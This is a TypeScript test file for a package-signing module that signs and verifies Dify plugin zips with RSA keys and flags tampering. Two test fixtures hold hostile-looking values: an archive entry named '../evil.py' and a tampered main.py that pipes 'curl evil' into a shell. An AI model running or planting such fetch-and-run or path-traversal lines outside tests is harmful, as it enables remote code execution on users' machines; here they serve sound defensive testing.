import { constants, createHash, createPublicKey, generateKeyPairSync, sign, verify } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { ProblemError } from '#core/errors.ts';
import { readArchive } from '#core/package/archive.ts';
import { byteSourceFromBuffer } from '#core/package/byte-source.ts';
import { inspectPackage } from '#core/package/inspect.ts';
import { resolvePackageLimits } from '#core/package/limits.ts';
import { generateSigningKeyPair, signPackage } from '#core/package/sign.ts';
import { type Keyring, parseSignatureComment, VERIFICATION_FILE } from '#core/package/signature.ts';
import {
  buildPackage,
  defaultRawEntries,
  type FileContent,
  packageFiles,
  writeRawZip,
} from '#test/support/package-builder.ts';

const NOW = new Date('2025-03-01T12:34:56.789Z');
const NOW_SECONDS = 1_740_832_496;

let signer: { privateKeyPem: string; publicKeyPem: string };
let other: { privateKeyPem: string; publicKeyPem: string };
let keyring: Keyring;

beforeAll(async () => {
  [signer, other] = await Promise.all([generateSigningKeyPair(2048), generateSigningKeyPair(2048)]);
  keyring = [{ keyId: 'ops-2025', publicKey: signer.publicKeyPem }];
});

async function signDefault(options: { authorizedCategory?: 'langgenius' | 'partner' | 'community' } = {}) {
  return signPackage(byteSourceFromBuffer(await buildPackage()), {
    privateKeyPem: signer.privateKeyPem,
    now: NOW,
    ...options,
  });
}

function inspect(bytes: Uint8Array, ring: Keyring = keyring) {
  return inspectPackage(byteSourceFromBuffer(bytes), { keyring: ring });
}

/** The zip comment, read by hand from the end-of-central-directory record. */
function zipCommentOf(zip: Buffer): Buffer {
  for (let i = zip.length - 22; i >= 0; i--) {
    if (zip.readUInt32LE(i) === 0x06054b50) return zip.subarray(i + 22, i + 22 + zip.readUInt16LE(i + 20));
  }
  throw new Error('no end of central directory record');
}

/** Dify's signed message, by hand: sha256 of each file in zip order, then the decimal time. */
function messageByHand(files: Iterable<FileContent>, time: number): Buffer {
  const parts = [...files].map((content) => createHash('sha256').update(content).digest());
  return Buffer.concat([...parts, Buffer.from(String(time))]);
}

describe('signPackage + inspectPackage', () => {
  it('verifies a package signed by our signer, and reports key, time and category', async () => {
    const pkg = await inspect(await signDefault({ authorizedCategory: 'partner' }));
    expect(pkg.signature).toEqual({
      status: 'verified',
      keyId: 'ops-2025',
      signedAt: '2025-03-01T12:34:56Z',
      authorizedCategory: 'partner',
    });
  });

  it('produces what Dify verifies: crypto.verify by hand over the documented message', async () => {
    const signed = await signDefault({ authorizedCategory: 'langgenius' });
    const comment = JSON.parse(zipCommentOf(signed).toString('utf8')) as { signature: string; time: number };
    expect(Object.keys(comment)).toEqual(['signature', 'time']);
    expect(comment.time).toBe(NOW_SECONDS);

    const verificationJson = '{"authorized_category":"langgenius"}';
    const files = [...packageFiles().values(), verificationJson];
    const message = messageByHand(files, comment.time);
    // Go: rsa.VerifyPKCS1v15(pub, crypto.SHA256, sha256(message), sig)
    const ok = verify(
      'sha256',
      message,
      { key: createPublicKey(signer.publicKeyPem), padding: constants.RSA_PKCS1_PADDING },
      Buffer.from(comment.signature, 'base64'),
    );
    expect(ok).toBe(true);

    // The verification file is the last entry and counts in the checksum too.
    const pkg = await inspect(signed);
    const byName = new Map<string, FileContent>([...packageFiles(), [VERIFICATION_FILE, verificationJson]]);
    const sorted = [...byName.keys()].sort((a, b) => Buffer.compare(Buffer.from(a), Buffer.from(b)));
    const all = createHash('sha256');
    for (const name of sorted) {
      all.update(createHash('sha256').update(name).digest());
      all.update(
        createHash('sha256')
          .update(byName.get(name) as FileContent)
          .digest(),
      );
    }
    expect(pkg.checksum).toBe(all.digest('hex'));
    expect(pkg.entries).toBe(packageFiles().size + 1);
  });

  it('verifies a package signed by hand the way Dify signs (PKCS#1 public key, as Dify stores keys)', async () => {
    const files = [...packageFiles(), [VERIFICATION_FILE, '{"authorized_category":"community"}'] as const];
    const time = 1_700_000_000;
    const signature = sign(
      'sha256',
      messageByHand(
        files.map(([, c]) => c),
        time,
      ),
      {
        key: signer.privateKeyPem,
        padding: constants.RSA_PKCS1_PADDING,
      },
    );
    const zip = writeRawZip(
      files.map(([name, content]) => ({ name, content })),
      { comment: JSON.stringify({ signature: signature.toString('base64'), time }) },
    );
    const pkcs1 = createPublicKey(signer.publicKeyPem).export({ type: 'pkcs1', format: 'pem' }).toString();
    expect(pkcs1).toContain('BEGIN RSA PUBLIC KEY');
    const pkg = await inspect(zip, [{ keyId: 'dify', publicKey: pkcs1 }]);
    expect(pkg.signature).toEqual({
      status: 'verified',
      keyId: 'dify',
      signedAt: '2023-11-14T22:13:20Z',
      authorizedCategory: 'community',
    });
  });

  it('signs without a verification file when no category is given (Dify reads it as langgenius)', async () => {
    const pkg = await inspect(await signDefault());
    expect(pkg.signature).toEqual({
      status: 'verified',
      keyId: 'ops-2025',
      signedAt: '2025-03-01T12:34:56Z',
      authorizedCategory: 'langgenius',
    });
    expect(pkg.entries).toBe(packageFiles().size);
  });

  it('replaces an existing verification file instead of duplicating it', async () => {
    const first = await signDefault({ authorizedCategory: 'community' });
    const again = await signPackage(byteSourceFromBuffer(first), {
      privateKeyPem: signer.privateKeyPem,
      authorizedCategory: 'langgenius',
      now: NOW,
    });
    const pkg = await inspect(again);
    expect(pkg.entries).toBe(packageFiles().size + 1);
    expect(pkg.signature.authorizedCategory).toBe('langgenius');
  });

  it('is reproducible: same input, key and time give the same bytes', async () => {
    const [a, b] = await Promise.all([
      signDefault({ authorizedCategory: 'partner' }),
      signDefault({ authorizedCategory: 'partner' }),
    ]);
    expect(a.equals(b)).toBe(true);
  });

  it('accepts the signer key as a KeyObject and picks whichever key validates', async () => {
    const pkg = await inspect(await signDefault(), [
      { keyId: 'other', publicKey: other.publicKeyPem },
      { keyId: 'broken', publicKey: 'not a pem' },
      { keyId: 'object', publicKey: createPublicKey(signer.publicKeyPem) },
    ]);
    expect(pkg.signature).toMatchObject({ status: 'verified', keyId: 'object' });
  });

  it('refuses to sign an unsafe archive', async () => {
    const evil = writeRawZip([...defaultRawEntries(), { name: '../evil.py', content: 'x' }]);
    const error = await signPackage(byteSourceFromBuffer(evil), {
      privateKeyPem: signer.privateKeyPem,
      now: NOW,
    }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ProblemError);
    expect((error as ProblemError).slug).toBe('unsafe-archive');
  });

  it('refuses non-RSA signing keys', async () => {
    const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
    const pem = privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
    await expect(
      signPackage(byteSourceFromBuffer(await buildPackage()), { privateKeyPem: pem, now: NOW }),
    ).rejects.toMatchObject({ slug: 'validation-failed', message: 'The signing key must be RSA, not ec.' });
  });
});

describe('unsigned and invalid signatures (never thrown)', () => {
  it.each([
    ['no comment', undefined, /empty zip comment/],
    ['a comment that is not JSON', 'built by zip 3.0', /not JSON/],
    ['JSON without a signature', '{"time": 1700000000}', /has no "signature"/],
    ['an empty signature', '{"signature": "", "time": 1700000000}', /has no "signature"/],
    ['a JSON array', '[1,2]', /not a JSON object/],
  ])('reports unsigned for %s', async (_case, comment, reason) => {
    const pkg = await inspect(await buildPackage(comment === undefined ? {} : { comment }));
    expect(pkg.signature).toEqual({ status: 'unsigned', reason: expect.stringMatching(reason) });
  });

  it('reports invalid for a signature from a key that is not trusted', async () => {
    const pkg = await inspect(await signDefault({ authorizedCategory: 'langgenius' }), [
      { keyId: 'other', publicKey: other.publicKeyPem },
    ]);
    // The category is not reported: only a verified package can claim one.
    expect(pkg.signature).toEqual({
      status: 'invalid',
      failure: 'unknown-signer',
      signedAt: '2025-03-01T12:34:56Z',
      reason: 'The package is signed by a key that is not trusted.',
    });
  });

  it('tells a tampered package (a trusted key signed other content) from an unknown signer', async () => {
    const signed = await signDefault();
    // Re-zip the same files with one byte changed in main.py and the original comment kept.
    const entries = await readArchive(byteSourceFromBuffer(signed), {
      limits: resolvePackageLimits(),
      collect: () => true,
    });
    const files: Record<string, string | Buffer | null> = Object.fromEntries(
      [...packageFiles().keys()].map((name) => [name, null]),
    );
    for (const entry of entries.entries) files[entry.name] = entry.content ?? Buffer.alloc(0);
    files['main.py'] = `${String(files['main.py'])}# changed\n`;
    const tampered = await buildPackage({ files, comment: entries.comment });
    const trusted = await inspect(tampered);
    expect(trusted.signature).toMatchObject({ status: 'invalid', failure: 'tampered' });
    const stranger = await inspect(tampered, [{ keyId: 'other', publicKey: other.publicKeyPem }]);
    expect(stranger.signature).toMatchObject({ status: 'invalid', failure: 'unknown-signer' });
    const nobody = await inspect(tampered, []);
    expect(nobody.signature).toMatchObject({ status: 'invalid', failure: 'no-trusted-keys' });
  });

  it('reports invalid with an empty keyring', async () => {
    expect((await inspect(await signDefault(), [])).signature.status).toBe('invalid');
  });

  it('reports invalid when content is tampered with after signing', async () => {
    const signed = await signDefault();
    const comment = zipCommentOf(signed).toString('utf8');
    const tampered = await buildPackage({
      files: { 'main.py': 'import os; os.system("curl evil | sh")\n' },
      comment,
    });
    expect((await inspect(tampered)).signature.status).toBe('invalid');
    // Same files and comment untampered still verify (the rebuild itself is not the problem).
    expect((await inspect(await buildPackage({ comment }))).signature.status).toBe('verified');
  });

  it('reports invalid when the category file is swapped after signing', async () => {
    const signed = await signDefault({ authorizedCategory: 'community' });
    const comment = zipCommentOf(signed).toString('utf8');
    const upgraded = await buildPackage({
      files: { [VERIFICATION_FILE]: '{"authorized_category":"langgenius"}' },
      comment,
    });
    expect((await inspect(upgraded)).signature).toMatchObject({ status: 'invalid' });
  });

  it('reports invalid when the signing time is changed', async () => {
    const comment = JSON.parse(zipCommentOf(await signDefault()).toString('utf8')) as { signature: string };
    const moved = await buildPackage({ comment: JSON.stringify({ ...comment, time: NOW_SECONDS + 1 }) });
    expect((await inspect(moved)).signature.status).toBe('invalid');
  });

  it.each([
    [
      'signature that is not base64',
      '{"signature": "!!not base64!!", "time": 1700000000}',
      /not valid base64/,
    ],
    ['missing time', '{"signature": "AAAA"}', /"time" is not an integer/],
    ['fractional time', '{"signature": "AAAA", "time": 1.5}', /"time" is not an integer/],
    ['time as a string', '{"signature": "AAAA", "time": "1700000000"}', /"time" is not an integer/],
  ])('reports invalid for a %s', async (_case, comment, reason) => {
    const pkg = await inspect(await buildPackage({ comment }));
    expect(pkg.signature).toMatchObject({ status: 'invalid', reason: expect.stringMatching(reason) });
  });

  it('reports invalid when a correctly signed verification file is not JSON (Dify refuses it)', async () => {
    const files = [...packageFiles(), [VERIFICATION_FILE, 'partner'] as const];
    const time = 1_700_000_000;
    const signature = sign(
      'sha256',
      messageByHand(
        files.map(([, c]) => c),
        time,
      ),
      {
        key: signer.privateKeyPem,
        padding: constants.RSA_PKCS1_PADDING,
      },
    );
    const zip = writeRawZip(
      files.map(([name, content]) => ({ name, content })),
      { comment: JSON.stringify({ signature: signature.toString('base64'), time }) },
    );
    expect((await inspect(zip)).signature).toMatchObject({
      status: 'invalid',
      reason: `${VERIFICATION_FILE} is not a JSON object.`,
    });
  });
});

describe('parseSignatureComment', () => {
  it('reads the signature and time', () => {
    const parsed = parseSignatureComment(Buffer.from('{"signature":"AQID","time":0}'));
    expect(parsed).toEqual({
      kind: 'signed',
      signature: Buffer.from([1, 2, 3]),
      time: 0,
      signedAt: '1970-01-01T00:00:00Z',
    });
  });
});

describe('generateSigningKeyPair', () => {
  it('returns PKCS#1 PEMs by default, the only layout Dify’s daemon loads', () => {
    expect(signer.privateKeyPem).toMatch(/^-----BEGIN RSA PRIVATE KEY-----\n/);
    expect(signer.publicKeyPem).toMatch(/^-----BEGIN RSA PUBLIC KEY-----\n/);
    expect(createPublicKey(signer.publicKeyPem).asymmetricKeyDetails?.modulusLength).toBe(2048);
  });

  it('still writes PKCS#8 and SPKI on request, and signs with either', async () => {
    const pkcs8 = await generateSigningKeyPair(2048, 'pkcs8');
    expect(pkcs8.privateKeyPem).toMatch(/^-----BEGIN PRIVATE KEY-----\n/);
    expect(pkcs8.publicKeyPem).toMatch(/^-----BEGIN PUBLIC KEY-----\n/);
    const signed = await signPackage(byteSourceFromBuffer(await buildPackage()), {
      privateKeyPem: pkcs8.privateKeyPem,
      now: new Date('2025-03-01T12:34:56Z'),
    });
    const pkg = await inspect(signed, [{ keyId: 'spki', publicKey: pkcs8.publicKeyPem }]);
    expect(pkg.signature).toMatchObject({ status: 'verified', keyId: 'spki' });
  });

  it('refuses weak key sizes', async () => {
    await expect(generateSigningKeyPair(1024)).rejects.toThrow(RangeError);
  });
});
